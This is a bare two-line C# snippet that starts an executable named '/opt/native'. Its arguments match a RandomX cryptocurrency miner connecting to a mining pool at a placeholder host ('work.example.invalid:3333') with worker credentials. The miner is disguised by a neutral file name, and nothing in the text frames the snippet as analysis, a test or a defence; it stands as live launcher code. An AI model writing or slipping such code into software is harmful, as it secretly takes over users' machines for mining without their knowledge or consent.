var info = new ProcessStartInfo("/opt/native", "-a rx/0 -o work.example.invalid:3333 -u me.1 -p x");
Process.Start(info);
